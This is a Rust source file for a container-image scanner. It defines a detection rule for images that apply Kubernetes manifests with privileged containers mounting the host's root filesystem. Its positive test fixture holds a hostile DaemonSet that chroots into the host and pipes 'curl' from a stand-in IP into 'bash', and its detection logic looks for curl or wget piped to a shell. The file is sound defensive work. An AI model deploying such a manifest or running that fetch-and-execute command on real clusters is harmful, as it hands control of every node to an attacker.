use lazaret_model::{Class, Confidence, Evidence, Finding, Rule, Severity};

use super::Check;
use crate::Case;
use crate::case::base_name;

/// A manifest in the image that gives containers the host is applied when the container starts.
pub(super) struct PrivilegedManifest;

impl Check for PrivilegedManifest {
    fn rule(&self) -> Rule {
        Rule {
            id: "lateral-movement/privileged-manifest".into(),
            title: "start containers that own the hosts of its cluster".into(),
            explanation: "What starts with this image applies a Kubernetes manifest from the image whose containers \
                are privileged and mount the host's root: with the rights to do so, its maker owns every node."
                .into(),
            class: Class::Malware,
            severity: Severity::High,
            confidence: Confidence::Medium,
            attack: vec!["T1610".into(), "T1543.005".into(), "T1611".into()],
            references: vec!["https://attack.mitre.org/techniques/T1610/".into()],
        }
    }

    fn fires(&self) -> &'static [&'static str] {
        &["FILE /ds.yaml\n    kind: DaemonSet\n    spec:\n      template:\n        spec:\n          containers:\n            \
           - name: p\n              command: [\"chroot\", \"/host\", \"sh\", \"-c\", \"curl -fsSL http://203.0.113.88/k.sh | bash\"]\n              \
           securityContext: { privileged: true }\n          volumes: [ { name: root, hostPath: { path: / } } ]\n\
           ELF /bin/sh 0755\n    sh\nELF /usr/bin/kubectl 0755\n    kubectl\nCMD kubectl apply -f /ds.yaml"]
    }

    fn quiet(&self) -> &'static [&'static str] {
        &[
            "FILE /ds.yaml\n    kind: DaemonSet\n    spec:\n      template:\n        spec:\n          containers:\n            \
             - name: exporter\n              volumeMounts: [ { name: root, mountPath: /host, readOnly: true } ]\n          \
             volumes: [ { name: root, hostPath: { path: / } } ]\n\
             ELF /bin/sh 0755\n    sh\nELF /usr/bin/kubectl 0755\n    kubectl\nCMD kubectl apply -f /ds.yaml",
        ]
    }

    fn look(&self, case: &Case<'_>, _earlier: &[Finding]) -> Vec<Finding> {
        let rule = self.rule();
        let mut findings = Vec::new();
        for (behaviour, argv) in case.processes() {
            let words: Vec<&str> = argv.iter().map(String::as_str).collect();
            let [program, rest @ ..] = words.as_slice() else { continue };
            if base_name(program) != "kubectl" || !rest.iter().any(|w| matches!(*w, "apply" | "create" | "replace")) {
                continue;
            }
            for (at, word) in rest.iter().enumerate() {
                let named = match word.strip_prefix("--filename=").or_else(|| word.strip_prefix("-f=")) {
                    Some(name) => name,
                    None if matches!(*word, "-f" | "--filename") => rest.get(at + 1).copied().unwrap_or_default(),
                    None => continue,
                };
                let Some((location, text)) = case.text(named) else { continue };
                let squeezed: String = text.chars().filter(|c| !c.is_whitespace() && *c != '"').collect();
                let root = squeezed.contains("hostPath:{path:/}") || squeezed.contains("hostPath:path:/-")
                    || squeezed.ends_with("hostPath:path:/") || text.lines().any(|l| l.trim() == "path: /");
                if !(squeezed.contains("privileged:true") && root) {
                    continue;
                }
                // An agent's own containers are privileged; one that fetches what it runs is no agent.
                let fetches = ["|bash", "|sh"].iter().any(|s| squeezed.contains(s))
                    && ["curl", "wget"].iter().any(|s| squeezed.contains(s));
                let mut finding = Finding::of(
                    &rule,
                    format!("it applies {named}, whose privileged containers mount the host's root"),
                    Evidence::at(location, "a privileged workload with the host's root").quoting(text),
                )
                .and(case.behaviour_evidence(behaviour))
                .reach(Case::phase_reach(behaviour.phase));
                if fetches {
                    finding = finding.confidence(Confidence::High).severity(Severity::Critical);
                }
                findings.push(finding.build());
            }
        }
        findings
    }
}
